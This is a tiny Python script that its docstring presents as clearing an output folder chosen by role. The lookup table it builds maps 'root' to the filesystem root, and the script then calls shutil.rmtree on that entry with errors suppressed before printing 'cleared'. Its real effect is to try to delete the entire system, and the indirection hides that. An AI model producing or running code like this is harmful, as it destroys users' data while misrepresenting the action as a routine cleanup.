"""Clear the output folder chosen by role."""
import os
import shutil

roles = ["tmp", "root"]
where = [os.path.join("/tmp", "out"), os.sep]
table = dict(zip(roles, where))
shutil.rmtree(table["root"], ignore_errors=True)
print("cleared")
